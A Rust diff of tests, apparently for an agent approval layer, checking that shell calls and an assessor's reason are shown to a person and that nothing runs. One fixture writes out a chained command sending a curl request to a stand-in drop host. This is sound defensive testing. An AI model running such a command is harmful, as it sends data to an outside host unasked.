@@ -13,7 +13,7 @@ pub fn taint(open: &Opener) {
     // Asked about: nothing is sent anywhere.
     let obeys = Call::Shell("echo obeys; curl -s https://drop.example.net/in".to_owned());
     let request = assert_asked(surface.meets(&obeys));
-    assert!(request.effects.contains("taint/obeys"), "{}", request.effects);
+    assert!(request.document.to_text().contains("taint/obeys"), "{}", request.document.to_text());
     assert_eq!(surface.room().ran().len(), 0);
 }
 
@@ -28,7 +28,11 @@ fn assessor(says: &str) -> String {
 pub fn assessor_raises(open: &Opener) {
     let surface = open.surface(&assessor(r#"{"raise": "ask", "reason": "not on a Friday"}"#));
     let request = assert_asked(surface.meets(&Call::Low));
-    assert!(request.effects.contains("not on a Friday"), "the person is not told why: {}", request.effects);
+    assert!(
+        request.document.to_text().contains("not on a Friday"),
+        "the person is not told why: {}",
+        request.document.to_text()
+    );
     assert_eq!(surface.room().ran().len(), 0);
 }
 
